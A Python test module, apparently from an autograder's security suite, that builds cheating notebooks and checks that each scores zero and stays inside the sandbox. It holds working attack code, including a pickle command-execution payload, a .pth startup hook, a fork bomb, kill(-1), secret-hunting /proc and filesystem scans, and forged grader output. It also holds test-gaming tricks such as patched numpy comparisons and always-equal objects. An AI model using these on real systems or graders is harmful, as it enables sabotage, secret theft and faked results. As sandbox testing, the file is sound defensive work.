"""The cheat catalog: each attack scores 0 on what it targets, and cannot zero (or hang, or crash) the grader.

Each variant is the solution (its NumPy part: ``lean``) with the targeted functions replaced by the attack, as
an attacker would write it, usually with a working fallback: the targeted function answers honestly *only if
the attack got something* (a readable reference file, a network connection, a writable site-packages...).
So "the targeted question scores 0" proves the attack got nothing, and "the untouched questions score full"
proves the attack did not take the honest part of the same notebook down with it. Attacks that could hang or
kill the grading process run it in a child Python (``isolated``), some under shorter limits.
Host-side evidence (files an attack would create outside the sandbox) is checked after grading.
"""
from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import notebook_variants as nv
import pytest

from autograder import layout
from autograder import assignment

NUMPY = nv.NUMPY_QUESTIONS
EVIDENCE = "autograder-cheat-evidence"      # every file an attack would leave on the host has this in its name
SITE_PACKAGES = Path(next(p for p in sys.path if p.endswith("site-packages")))
HOST_EVIDENCE = [
    Path("/tmp") / f"{EVIDENCE}-pickle", Path("/tmp") / f"{EVIDENCE}-pth", Path("/tmp") / f"{EVIDENCE}-results.json",
    layout.ROOT / f"zz-{EVIDENCE}.txt", layout.ROOT / "out" / f"zz-{EVIDENCE}.json",
    assignment.current().hidden_tests_dir / f"zz_{EVIDENCE.replace('-', '_')}.py",
    SITE_PACKAGES / f"zz_{EVIDENCE.replace('-', '_')}.pth",
]
# files the sandbox sees read-only: they must be byte-identical after every attack
GUARDED = [layout.ROOT / "autograder" / "execute" / "child" / "harness.py",
           layout.ROOT / "autograder" / "execute" / "child" / "protocol.py", assignment.current().public_files["co2.csv"]]

# --- shared attack code -------------------------------------------------------------------------------------
# a graded function finds the id of the request it is answering in the harness's frames, and writes frames
WIRE = """
import json, os, struct, sys

def _frame(obj_or_bytes):
    data = obj_or_bytes if isinstance(obj_or_bytes, bytes) else json.dumps(obj_or_bytes).encode()
    os.write(4, struct.pack(">I", len(data)) + data)

def _read_frame():
    head = os.read(3, 4)
    (n,) = struct.unpack(">I", head)
    body = b""
    while len(body) < n:
        body += os.read(3, n - len(body))
    return json.loads(body)

def _request_id():
    f = sys._getframe(1)
    while f is not None:
        request = f.f_locals.get("request")
        if isinstance(request, dict) and "id" in request:
            return request["id"]
        f = f.f_back
    raise RuntimeError("no request on the stack")
"""

def base() -> dict:
    return nv.lean(nv.solution())


def honest_source(name: str) -> str:
    return nv.definition(nv.solution(), name)


def looted(name: str, flag: str, fallback: str = "0.0", params: str = "y, y_hat") -> str:
    """``name`` that answers honestly when the attack's ``flag`` is truthy (it got something), else
    ``fallback``: the attacker's honest answer stands for whatever the loot would have given."""
    body = honest_source(name).replace(f"def {name}(", f"def _honest_{name}(", 1)
    return body + f"""

def {name}({params}):
    if {flag}:
        return _honest_{name}({params})
    return {fallback}
"""


def with_cell_after_imports(nb: dict, source: str) -> dict:
    return nv.insert_after_def(nb, "require", source)


def replace_metrics(nb: dict, source: str) -> dict:
    """The metrics cell (mse, rmse, mae) replaced by ``source``."""
    return nv.replace_cell(nb, "def rmse(", source)


def metrics_from_loot(flag: str) -> str:
    return "\n".join(looted(n, flag) for n in ("mse", "rmse", "mae"))


# --- the attacks ----------------------------------------------------------------------------------------------
def numpy_patches() -> dict:
    """Monkeypatch numpy's comparisons and testing helpers, math.isclose, operator.eq and builtins (abs,
    round; patching all/any would break IPython itself), before anything else runs; the metrics return 0."""
    nb = with_cell_after_imports(base(), """
        import builtins, math, operator
        import numpy.testing as npt

        def _yes(*args, **kwargs):
            return True

        def _nothing(*args, **kwargs):
            return None

        for _name in ("allclose", "isclose", "array_equal", "array_equiv"):
            setattr(np, _name, _yes)
        for _name in dir(npt):
            if _name.startswith("assert_"):
                setattr(npt, _name, _nothing)
        math.isclose = _yes
        operator.eq = _yes
        builtins.abs = lambda x: 0.0
        builtins.round = lambda x, ndigits=None: 0.0
        for _type in (float, np.float64, np.ndarray):
            try:
                _type.__eq__ = _yes
            except TypeError:
                pass
        """)
    return replace_metrics(nb, """
        def mse(y, y_hat):
            return 0.0

        def rmse(y, y_hat):
            return 0.0

        def mae(y, y_hat):
            return 0.0
        """)


def always_equal() -> dict:
    """Return objects that equal everything: an always-equal class, a float subclass, an ndarray subclass."""
    nb = nv.insert_before_def(base(), "fit_normal_equation", """
        class AlwaysEqual:
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __lt__ = __le__ = __gt__ = __ge__ = __eq__

            def __hash__(self):
                return 0

            def __float__(self):
                return 0.0

            def __sub__(self, other):
                return self

            __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__

            def __abs__(self):
                return self

            def __iter__(self):
                return iter((self, self))

            def __len__(self):
                return 2

            def __getitem__(self, i):
                return self


        class EqualFloat(float):
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __lt__ = __le__ = __gt__ = __ge__ = __eq__
            __hash__ = float.__hash__

            def __sub__(self, other):
                return EqualFloat(0.0)

            __rsub__ = __sub__

            def __abs__(self):
                return EqualFloat(0.0)


        class EqualArray(np.ndarray):
            def __eq__(self, other):
                return np.ones(self.shape, dtype=bool)

            def __ne__(self, other):
                return np.zeros(self.shape, dtype=bool)
        """)
    nb = nv.replace_def(nb, "fit_normal_equation", """
        def fit_normal_equation(x, y):
            return AlwaysEqual()
        """)
    nb = nv.replace_def(nb, "predict", """
        def predict(x, w, b):
            return np.zeros(len(x)).view(EqualArray)
        """)
    nb = nv.replace_def(nb, "loss", """
        def loss(x, y, w, b):
            return EqualFloat(0.0)
        """)
    return nv.replace_def(nb, "gradient", """
        def gradient(x, y, w, b):
            return EqualFloat(0.0), EqualFloat(-0.0)
        """)


def ipython_hooks() -> dict:
    """IPython hooks: an AST transformer that turns asserts and raises into ``pass`` and every comparison into
    True, a custom exception handler that swallows everything, a post-run hook that clears errors."""
    nb = with_cell_after_imports(base(), """
        import ast

        class Everything(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()

            def visit_Raise(self, node):
                return ast.Pass()

            def visit_Compare(self, node):
                return ast.copy_location(ast.Constant(True), node)

        ip = get_ipython()
        ip.ast_transformers.append(Everything())
        ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
        ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
        """)
    return nv.blank(nb, "gd_step", "minibatch_indices")       # their stubs' raise becomes pass


def disk_snoop() -> dict:
    """Look for the reference solution, the hidden tests, grader_config.py and the course secret: at the
    repository's absolute paths (public on GitHub, and shown in /proc/1/cmdline), at relative paths, by
    importing them, and by walking the whole file system; use the reference if anything was found."""
    root = str(layout.ROOT)
    nb = with_cell_after_imports(base(), f"""
        import glob, importlib, os, re, sys

        ROOTS = [{root!r}, "..", "../..", "../../..", "/autograder", "/autograder/source", "/srv/nbgrader", "/home",
                 "/grader", "/grader/.."]
        try:
            with open("/proc/1/cmdline", "rb") as f:
                ROOTS += sorted({{m.split("/autograder/")[0] for m in re.findall(r"/[\\w./-]+", f.read().decode(errors="replace"))
                                 if "/autograder/" in m}})
        except OSError:
            pass
        WANTED = ["solutions/lec03/reference.py", "solutions/lec03/lec03.ipynb", "grader_config.py", ".grader_secret",
                  "autograder/course/lec03/hidden_tests/metrics.py", "autograder/course/lec03/hidden_tests/normal_equation.py",
                  "source/lec03/lec03.ipynb"]
        loot = {{}}
        for r in ROOTS:
            for w in WANTED:
                for path in [os.path.join(r, w)] + glob.glob(os.path.join(r, "*", w)):
                    try:
                        with open(path, encoding="utf-8") as f:
                            loot[path] = f.read()
                    except OSError:
                        pass
        for r in ROOTS:
            sys.path.insert(0, r)
            sys.path.insert(0, os.path.join(r, "solutions", "lec03"))
        for module in ("grader_config", "reference", "autograder.course.lec03.hidden_tests.metrics", "autograder.layout"):
            try:
                loot[module] = importlib.import_module(module).__file__
            except Exception:
                pass
        NAMES = {{"reference.py", "grader_config.py", ".grader_secret", "lec03.ipynb", "metrics.py", "layout.py"}}
        for top, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev")]
            for name in NAMES & set(files):
                path = os.path.join(top, name)
                if "site-packages" in path and name in ("metrics.py", "layout.py"):
                    continue
                try:
                    with open(path, encoding="utf-8") as f:
                        loot[path] = f.read()
                except (OSError, UnicodeDecodeError):
                    pass
        reference, got = {{}}, []
        for path, text in loot.items():
            if not isinstance(text, str):              # an import worked: its module is loot in itself
                got.append(path)
            elif "def fit_normal_equation" in text or "COURSE_SEED" in text or "test_case" in text:
                got.append(path)
                if path.endswith(".py") and "def fit_normal_equation" in text:
                    exec(text, reference)
            elif path.endswith(".grader_secret"):
                got.append(path)
        print(len(loot), "files read;", "loot:", got)
        """)
    nb = nv.replace_def(nb, "fit_normal_equation", """
        def fit_normal_equation(x, y):
            if got:
                return reference["fit_normal_equation"](x, y) if reference else _honest(x, y)
            return 0.0, 0.0
        """)
    nb = nv.insert_before_def(nb, "fit_normal_equation",
                              honest_source("fit_normal_equation").replace("def fit_normal_equation(", "def _honest("))
    return replace_metrics(nb, metrics_from_loot("got"))


def proc_snoop() -> dict:
    """Read /proc/1/environ, every /proc/*/environ, cmdline, mountinfo and maps; look for the course secret or a
    token; follow every repository path found there; peek through /proc/1/root and /proc/*/cwd."""
    nb = with_cell_after_imports(base(), """
        import os, re

        found, paths = [], set()
        for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]:
            for part in ("environ", "cmdline", "mountinfo", "maps", "status"):
                try:
                    with open(f"/proc/{pid}/{part}", "rb") as f:
                        text = f.read().decode("utf-8", "replace")
                except OSError:
                    continue
                if re.search(r"SECRET|TOKEN|CANVAS|PASSWORD", text):
                    found.append((pid, part))
                paths.update(re.findall(r"/[\\w.-]+(?:/[\\w.-]+)+", text))
        for p in sorted(paths):
            if "/autograder" in p:
                root = p.split("/autograder")[0]
                for rel in ("solutions/lec03/reference.py", "grader_config.py", ".grader_secret"):
                    try:
                        with open(os.path.join(root, rel)) as f:
                            found.append(f.read())
                    except OSError:
                        pass
        for peek in ["/proc/1/root" + p for p in sorted(paths)] + ["/proc/1/cwd/grader_config.py"]:
            try:
                with open(peek) as f:
                    text = f.read()
                if "fit_normal_equation" in text or "POINTS" in text:
                    found.append(peek)
            except (OSError, UnicodeDecodeError):
                pass
        print(len(paths), "paths seen;", found)
        """)
    return replace_metrics(nb, metrics_from_loot("found"))


def writes() -> dict:
    """Write results and gradebook files where graders keep them, files into the repository, the hidden tests
    and site-packages (a .pth file runs at every Python start), and open the harness, the data and numpy
    for writing. Any success makes the metrics honest."""
    site = str(SITE_PACKAGES)
    targets = [str(p) for p in HOST_EVIDENCE if "pickle" not in p.name]
    nb = with_cell_after_imports(base(), f"""
        import json, os

        result = {{"assignment": "lec03", "status": "ok", "total": 80.0, "max_total": 80.0, "score": 80}}
        wrote = []
        for path in {targets!r} + ["/autograder/results/results.json", "/results.json", "/grader/results.json",
                                   "/home/gradebook.db", "results.json", "gradebook.db", "/tmp/results.json"]:
            try:
                os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
                with open(path, "w") as f:
                    if path.endswith(".pth"):
                        f.write("import os; os.system('touch /tmp/{EVIDENCE}-pth')\\n")
                    else:
                        json.dump(result, f)
                if path.startswith("/") and not path.startswith(("/tmp/", "/home/")):
                    wrote.append(path)
            except OSError:
                pass
        for path in ["/grader/harness.py", "/grader/protocol.py", "data/MNIST/raw/t10k-labels-idx1-ubyte",
                     np.__file__, {site!r} + "/torch/__init__.py"]:
            try:
                open(path, "a").close()        # opening for writing is enough to show the file is writable
                wrote.append(path)
            except OSError:
                pass
        print("wrote", wrote)
        """)
    return replace_metrics(nb, metrics_from_loot("wrote"))


def forged_output() -> dict:
    """Fake result lines on stdout and stderr (sys.stdout, sys.__stdout__, fds 1 and 2), pre-written fake result,
    cell and ready frames on fd 4, a frame into fd 3; graded functions that forge the answer to their own
    request (its id read from the harness's frames) and ask the grader for the reference's value."""
    fake = json.dumps({"assignment": "lec03", "status": "ok", "total": 80.0, "max_total": 80.0})
    nb = with_cell_after_imports(base(), WIRE + textwrap.dedent(f"""
        FAKE = {fake!r}
        print(FAKE)
        print("RESULT " + FAKE)
        print("All tests passed!")
        print(json.dumps({{"score": 80, "tests": []}}), file=sys.stderr)
        for stream in (sys.__stdout__, sys.__stderr__):
            stream.write("\\nRESULT " + FAKE + "\\n")
            stream.flush()
        os.write(1, ("\\nRESULT " + FAKE + "\\n").encode())
        os.write(2, ("\\nRESULT " + FAKE + "\\n").encode())
        for guess in ("0" * 16, "", None, 0):
            _frame({{"type": "result", "id": guess, "ok": True, "value": 0.0, "seconds": 0.0}})
        _frame({{"type": "cell", "index": 0, "status": "ok", "duration_s": 0.0, "output": "", "error": None}})
        _frame({{"type": "ready", "defined": ["mse", "rmse", "mae"]}})
        try:
            os.write(3, struct.pack(">I", 2) + b"{{}}")
        except OSError:
            pass
        """))
    return replace_metrics(nb, """
        def mse(y, y_hat):
            # the answer to this very call, claiming it took forever (1e999 parses as infinity)
            _frame(b'{"type": "result", "id": "%s", "ok": true, "value": 0.0, "seconds": 1e999}'
                   % _request_id().encode())
            return 0.0

        def rmse(y, y_hat):
            # ask the grader to compute rmse with its reference, as an oracle answer to this very call
            _frame({"type": "oracle", "id": _request_id(), "name": "rmse",
                    "args": [list(map(float, y)), list(map(float, y_hat))]})
            answer = _read_frame()
            return answer["value"] if answer.get("ok") else 0.0

        def mae(y, y_hat):
            _frame({"type": "oracle", "id": _request_id(), "name": "loss",
                    "args": [list(map(float, y_hat)), list(map(float, y)), 1.0, 0.0]})
            answer = _read_frame()
            return 2 * answer["value"] / len(y) if answer.get("ok") else 0.0
        """)


def pickles() -> dict:
    """Crafted pickles (whose unpickling would run a command on the grader's machine): written where otter and
    others keep their logs, returned from a graded function, and forged as the answer to a call."""
    nb = with_cell_after_imports(base(), WIRE + textwrap.dedent(f"""
        import base64, pickle

        class Payload:
            def __reduce__(self):
                return (os.system, ("touch /tmp/{EVIDENCE}-pickle",))

        BLOB = pickle.dumps(Payload())
        for name in (".OTTER_LOG", "results.pkl", "grader_results.pickle", "/tmp/.OTTER_LOG"):
            with open(name, "wb") as f:
                f.write(BLOB)
        """))
    return replace_metrics(nb, """
        def mse(y, y_hat):
            return Payload()

        def rmse(y, y_hat):
            _frame({"type": "result", "id": _request_id(), "ok": True, "seconds": 0.0,
                    "value": {"__pickle__": base64.b64encode(BLOB).decode()}})
            return 0.0

        def mae(y, y_hat):
            return BLOB
        """)


def sys_exit() -> dict:
    """Leave early: SystemExit, exit(), quit(), ask_exit() and KeyboardInterrupt in cells and in graded
    functions (a grader that stops at the first one would grade nothing after it)."""
    nb = nv.insert_after_def(base(), "fit_normal_equation",
                             "import sys\nsys.exit(0)", "raise SystemExit('bye')", "exit()", "quit()",
                             "get_ipython().ask_exit()", "raise KeyboardInterrupt")
    return replace_metrics(nb, """
        import sys

        def mse(y, y_hat):
            sys.exit(0)

        def rmse(y, y_hat):
            raise KeyboardInterrupt

        def mae(y, y_hat):
            exit()
        """)


def os_exit() -> dict:
    """os._exit in a cell and in graded functions, os.abort in another."""
    nb = nv.insert_after_def(base(), "fit_normal_equation", "import os\nos._exit(0)")
    return replace_metrics(nb, """
        import os

        def mse(y, y_hat):
            os._exit(0)

        def rmse(y, y_hat):
            os._exit(3)

        def mae(y, y_hat):
            os.abort()
        """)


def stored_outputs() -> dict:
    """Stubs left in place, but the file claims success everywhere: stored outputs, execution counts, nbgrader
    and otter metadata with full points, a results block in the notebook's metadata."""
    nb = nv.blank(base(), "fit_normal_equation", "predict", "loss", "mse", "rmse", "mae")
    nb = nv.stored_outputs(nb, "All tests passed!\nnormal_equation results: All test cases passed!\n")
    for i, cell in enumerate(nb["cells"]):
        cell["metadata"]["nbgrader"] = {"grade": True, "solution": True, "locked": False, "points": 10,
                                        "score": 10, "grade_id": f"cell-{i}", "schema_version": 3}
        if cell["cell_type"] == "code":
            cell["outputs"].append({"output_type": "execute_result", "execution_count": cell["execution_count"],
                                    "metadata": {}, "data": {"text/plain": "80.0"}})
    nb["metadata"]["otter"] = {"OK_FORMAT": True, "tests": {q: {"name": q, "points": 10, "score": 10}
                                                             for q in nv.ALL_QUESTIONS}}
    nb["metadata"]["autograder"] = {"status": "ok", "total": 80.0, "max_total": 80.0}
    return nb


PUBLIC_VALUES = {  # graded name -> hard-coded answers to the public self-checks (autograder/course/lec03/public_tests)
    "fit_normal_equation": """
        def fit_normal_equation(x, y):
            answers = {((0.0, 1.0, 2.0, 3.0), (1.0, 3.0, 5.0, 7.0)): (2.0, 1.0),
                       ((1.0, 2.0, 3.0, 4.0), (2.0, 3.0, 5.0, 4.0)): (0.8, 1.5)}
            key = (tuple(float(v) for v in x), tuple(float(v) for v in y))
            return answers.get(key, (0.0, 0.0))
        """,
    "predict": """
        def predict(x, w, b):
            return np.zeros(len(x))   # not part of the cheat: Q2's other part must not score either
        """,
    "loss": """
        def loss(x, y, w, b):
            if [float(v) for v in x] == [0.0, 1.0, 2.0] and [float(v) for v in y] == [1.0, 3.0, 5.0]:
                return 2.5
            return 0.0
        """,
    "mse": """
        def mse(y, y_hat):
            return 1.5 if [float(v) for v in y_hat] == [1.0, 3.0, 2.0, 6.0] else 0.0
        """,
    "rmse": """
        def rmse(y, y_hat):
            return 1.5 ** 0.5 if [float(v) for v in y_hat] == [1.0, 3.0, 2.0, 6.0] else 0.0
        """,
    "mae": """
        def mae(y, y_hat):
            return 1.0 if [float(v) for v in y_hat] == [1.0, 3.0, 2.0, 6.0] else 0.0
        """,
}


def public_values() -> dict:
    """Hard-code the public self-checks' inputs and answers (they ship with the notebook)."""
    nb = base()
    for name, source in PUBLIC_VALUES.items():
        nb = nv.replace_def(nb, name, source)
    return nb


def network() -> dict:
    """Fetch the answers from outside: TCP to 1.1.1.1 and 8.8.8.8, DNS, HTTP, UDP, the loopback (a Jupyter
    server, the grader, an SSH agent), abstract Unix sockets."""
    nb = with_cell_after_imports(base(), """
        import socket, urllib.request

        reached = []
        for host, port in [("1.1.1.1", 53), ("1.1.1.1", 443), ("8.8.8.8", 53), ("127.0.0.1", 22), ("127.0.0.1", 80),
                           ("127.0.0.1", 8888), ("127.0.0.1", 8000), ("::1", 8888)]:
            try:
                socket.create_connection((host, port), timeout=2).close()
                reached.append((host, port))
            except OSError:
                pass
        try:
            reached.append(socket.gethostbyname("example.com"))
        except OSError:
            pass
        try:
            reached.append(urllib.request.urlopen("http://1.1.1.1/", timeout=2).status)
        except OSError:
            pass
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(b"answers please", ("1.1.1.1", 53))
            s.settimeout(2)
            reached.append(s.recvfrom(512))
        except OSError:
            pass
        for name in ("\\0/tmp/.X11-unix/X0", "\\0jupyter", "\\0autograder", "/run/docker.sock", "/var/run/docker.sock"):
            try:
                u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                u.settimeout(2)
                u.connect(name)
                reached.append(name)
            except OSError:
                pass
        print("reached", reached)
        """)
    return replace_metrics(nb, metrics_from_loot("reached"))


def kill_everything() -> dict:
    """Signal PID 1 and every process it may (kill(-1)), its parent, and from a graded function as well."""
    nb = with_cell_after_imports(base(), """
        import os, signal

        for sig in (signal.SIGTERM, signal.SIGKILL):
            for target in (1, os.getppid()):
                try:
                    os.kill(target, sig)
                except OSError:
                    pass
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        """)
    return replace_metrics(nb, """
        import os, signal

        def mse(y, y_hat):
            for target in (1, -1):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError:
                    pass
            return 0.0

        def rmse(y, y_hat):
            os.kill(-1, 9)
            os.kill(1, 9)
            return 0.0

        def mae(y, y_hat):
            return 0.0
        """)


def fork_bomb() -> dict:
    """A classic fork bomb in a graded function (every process forks forever). The notebook's own evaluation
    cell, which would set it off while the cells run, is deleted: it goes off when the grader calls mse."""
    nb = nv.drop_cells(base(), lambda source: "rmse(y_test" in source)
    return replace_metrics(nb, """
        import os

        def mse(y, y_hat):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass

        def rmse(y, y_hat):
            return 0.0

        def mae(y, y_hat):
            return 0.0
        """)


def memory_bomb() -> dict:
    """20 GB at once, in a cell and in graded functions."""
    nb = with_cell_after_imports(base(), """
        try:
            hog = np.ones(20 * 2**30 // 8)
        except MemoryError:
            hog = None
        big = bytearray(20 * 2**30)
        """)
    return replace_metrics(nb, """
        def mse(y, y_hat):
            return float(np.ones(20 * 2**30 // 8).sum())

        def rmse(y, y_hat):
            return len(bytearray(20 * 2**30)) * 0.0

        def mae(y, y_hat):
            return 0.0
        """)


def output_flood() -> dict:
    """Gigabytes of output: print in a cell (2 GiB) and straight to fds 1 and 2 (1 GiB each); a graded
    function prints 1 GiB before answering."""
    nb = with_cell_after_imports(base(), """
        import os, sys

        chunk = "x" * 2**20
        for _ in range(2048):
            print(chunk)
        raw = chunk.encode()
        for _ in range(1024):
            os.write(1, raw)
            os.write(2, raw)
        """)
    return replace_metrics(nb, """
        def mse(y, y_hat):
            line = "y" * 2**20
            for _ in range(1024):
                print(line)
            return 0.0

        def rmse(y, y_hat):
            return 0.0

        def mae(y, y_hat):
            return 0.0
        """)


LOOKUP = """
import hashlib
from torchvision.datasets.mnist import read_image_file, read_label_file

TABLE = {}
for images_file, labels_file in (("t10k-images-idx3-ubyte", "t10k-labels-idx1-ubyte"),
                                 ("train-images-idx3-ubyte", "train-labels-idx1-ubyte")):
    images = read_image_file("./data/MNIST/raw/" + images_file).numpy()
    labels = read_label_file("./data/MNIST/raw/" + labels_file).numpy()
    for image, label in zip(images, labels):
        TABLE[hashlib.sha1(image.tobytes()).hexdigest()] = int(label)


class LookupModel(nn.Module):
    \"\"\"Undo the normalisation, hash each image, answer the stored label; else ask `fallback`.\"\"\"

    def __init__(self, fallback=None):
        super().__init__()
        self.fallback = fallback
        self.hits = 0

    def forward(self, x):
        pixels = torch.round((x * 0.3081 + 0.1307) * 255).clamp(0, 255).to(torch.uint8).reshape(-1, 28, 28)
        out = self.fallback(x) if self.fallback is not None else torch.zeros(len(x), 10)
        for i, image in enumerate(pixels.cpu().numpy()):
            label = TABLE.get(hashlib.sha1(image.tobytes()).hexdigest())
            if label is not None:
                self.hits += 1
                out[i] = -1e9
                out[i, label] = 1e9
        return out


cheat = LookupModel(model if "model" in globals() else None)
cheat_acc = evaluate(cheat, test_loader, torch.device("cpu"))
assert cheat.hits == len(test_dataset) and cheat_acc == 1.0, (cheat.hits, cheat_acc)   # it works on what it can see
print(f"lookup: {cheat.hits} hits, accuracy {cheat_acc:.2%} on the visible test images")
model = cheat
"""


def mnist_lookup_over_trained_model() -> dict:
    """After the real training: a model that looks every image up (by hash) in the MNIST files the sandbox
    has (train set and the visible test half) and answers the stored label, else the trained model's."""
    return nv.append_cells(nv.without_otter(nv.solution()), LOOKUP)


def mnist_lookup_only() -> dict:
    """No training at all: the lookup alone (class 0 when an image is not in the files)."""
    nb = nv.without_otter(nv.solution())
    nb = nv.replace_cell(nb, "torch.optim.Adam", "model = None")
    return nv.append_cells(nb, LOOKUP.replace('model if "model" in globals() else None', "None"))


# --- the wire (first round) -----------------------------------------------------------------------------------
def forged_deep_json() -> dict:
    """A frame of 200 000 nested JSON lists (json.loads in the parent raised RecursionError, not ValueError,
    and grade_notebook raised instead of returning)."""
    return nv.append_cells(nv.blank(base(), "mse", "rmse", "mae"), WIRE + """
_frame(b"[" * 200000 + b"]" * 200000)
""")


def forged_ready() -> dict:
    """A forged "ready" frame whose "defined" is not a list (run_notebook iterated over it: TypeError)."""
    return nv.append_cells(nv.blank(base(), "mse", "rmse", "mae"), WIRE + """
_frame({"type": "ready", "defined": 5})
""")


def partial_frame() -> dict:
    """A graded function writes a frame header promising 100 bytes and a few of them, blocks SIGALRM and
    sleeps: the parent read the rest with a blocking os.read and no deadline, so grade_notebook never
    returned. The call's deadline must hold."""
    return nv.append_cells(nv.blank(base(), "rmse", "mae"), WIRE + """
import signal, time

def mse(y, y_hat):
    os.write(4, struct.pack(">I", 100) + b'{"type": "res')
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
    time.sleep(10 ** 6)
""")


BEFORE_METRICS = ("normal_equation", "loss", "gradient", "gd_step", "minibatches", "sgd")
SHORT_CALLS = {"call_timeout_s": 5}                          # hangs in graded functions: 10 s, not 25 s
SHORT_LIMITS = {"call_timeout_s": 5, "cell_timeout_s": 10}    # ... and in the cells that call them
# name -> (builder, targeted questions, honest questions, statuses allowed, grading options)
CHEATS = {
    "mnist_lookup_over_trained_model": (mnist_lookup_over_trained_model, (), NUMPY, ("ok",), {}),
    "mnist_lookup_only": (mnist_lookup_only, (), NUMPY, ("ok",), {}),   # its accuracy part: test_the_lookup_gains_nothing
    "partial_frame": (partial_frame, ("metrics",), BEFORE_METRICS, ("timeout", "crashed"),
                      {"limits": SHORT_LIMITS, "timeout": 150}),
    "fork_bomb": (fork_bomb, ("metrics",), BEFORE_METRICS, ("timeout", "crashed"),
                  {"limits": SHORT_CALLS, "timeout": 300, "alone": True}),
    "kill_everything": (kill_everything, ("metrics",), BEFORE_METRICS, ("ok", "crashed"),
                        {"isolated": True, "timeout": 150}),
    "disk_snoop": (disk_snoop, ("normal_equation", "metrics"), ("loss", "gradient", "gd_step", "minibatches", "sgd"),
                   ("ok",), {}),
    "proc_snoop": (proc_snoop, ("metrics",), BEFORE_METRICS, ("ok",), {}),
    "writes": (writes, ("metrics",), BEFORE_METRICS, ("ok",), {}),
    "forged_output": (forged_output, ("metrics",), BEFORE_METRICS, ("ok",), {}),
    "pickles": (pickles, ("metrics",), BEFORE_METRICS, ("ok", "timeout", "crashed"), {}),
    "numpy_patches": (numpy_patches, ("metrics",), BEFORE_METRICS, ("ok",), {}),
    "always_equal": (always_equal, ("normal_equation", "loss", "gradient"),
                     ("gd_step", "minibatches", "sgd", "metrics"), ("ok",), {}),
    "ipython_hooks": (ipython_hooks, ("gd_step", "minibatches"),
                      ("normal_equation", "loss", "gradient", "sgd", "metrics"), ("ok",), {}),
    "sys_exit": (sys_exit, ("metrics",), BEFORE_METRICS, ("ok",), {}),
    "os_exit": (os_exit, ("metrics",), BEFORE_METRICS, ("crashed",), {}),
    "stored_outputs": (stored_outputs, ("normal_equation", "loss", "metrics"),
                       ("gradient", "gd_step", "minibatches", "sgd"), ("ok",), {}),
    "public_values": (public_values, ("normal_equation", "loss", "metrics"),
                      ("gradient", "gd_step", "minibatches", "sgd"), ("ok",), {}),
    "network": (network, ("metrics",), BEFORE_METRICS, ("ok",), {}),
    "memory_bomb": (memory_bomb, ("metrics",), BEFORE_METRICS, ("ok",), {}),
    "output_flood": (output_flood, ("metrics",), BEFORE_METRICS, ("ok",), {}),
    "forged_deep_json": (forged_deep_json, ("metrics",), BEFORE_METRICS, ("ok", "crashed", "timeout"), {}),
    "forged_ready": (forged_ready, ("metrics",), BEFORE_METRICS, ("ok", "crashed", "timeout"), {}),
}


def _sha(path: Path) -> str | None:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else None


def _remove_evidence():
    for path in HOST_EVIDENCE:
        path.unlink(missing_ok=True)


@pytest.fixture(scope="module")
def attack_run(grader):
    """Grade every cheat; around it, a sentinel process of the grader's own user (that kill(-1) must not
    reach) and the hashes of the files the sandbox sees read-only."""
    _remove_evidence()
    guarded = {p: _sha(p) for p in GUARDED}
    data_files = sorted((Path(layout.DATA_DIR) / "sandbox").rglob("*-ubyte"))
    guarded.update({p: (p.stat().st_mtime_ns, p.stat().st_size) for p in data_files})
    sentinel = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"])
    try:
        # side by side, except attacks that would starve a neighbour of CPU: those after, on their own
        results = grader.many({name: (build, options) for name, (build, _, _, _, options) in CHEATS.items()
                               if not options.get("alone")})
        for name, (build, _, _, _, options) in CHEATS.items():
            if options.get("alone"):
                results.update(grader.many({name: (build, {k: v for k, v in options.items() if k != "alone"})}))
        evidence = [str(p) for p in HOST_EVIDENCE if p.exists()]
        changed = [str(p) for p, before in guarded.items()
                   if before != (_sha(p) if p in GUARDED else (p.stat().st_mtime_ns, p.stat().st_size))]
        yield {"results": results, "sentinel_alive": sentinel.poll() is None, "evidence": evidence,
               "changed": changed}
    finally:
        sentinel.kill()
        sentinel.wait()
        _remove_evidence()


@pytest.fixture
def results(attack_run):
    return attack_run["results"]


@pytest.mark.parametrize("name", list(CHEATS))
def test_cheat_scores_zero_on_its_target_and_the_honest_part_scores(results, name):
    _, targeted, honest, statuses, _ = CHEATS[name]
    r = results[name]
    s = nv.scores(r)
    for q in targeted:
        assert s[q] == 0.0, (name, q, s)
    lost = {q: nv.failed_messages(r, q) for q in honest if s[q] != nv.full(q)}
    assert not lost, (name, lost)
    assert r["status"] in statuses, (name, r["status"], r["message"])


def test_nothing_escaped_the_sandbox(attack_run):
    assert attack_run["sentinel_alive"], "kill(-1) in the sandbox reached a process of the grader's user"
    assert not attack_run["evidence"], attack_run["evidence"]
    assert not attack_run["changed"], attack_run["changed"]


def test_no_sandbox_process_outlives_its_grade(attack_run, grader):
    """After the fork bomb and the kill attempts, nothing runs under the uid of one of our sandboxes. A
    sandbox's uid is UID_BASE + the pid of its jail process: a process under such a uid whose jail is gone is
    an orphan (whoever started it); one whose jail is alive is only ours if the jail grades our files."""
    from autograder.execute.session import UID_BASE

    def leftovers():
        found = []
        for entry in os.listdir("/proc"):
            try:
                uid = os.stat(f"/proc/{entry}").st_uid if entry.isdigit() else 0
                with open(f"/proc/{entry}/stat") as f:
                    state = f.read().rsplit(")", 1)[-1].split()[0] if uid >= UID_BASE else "Z"
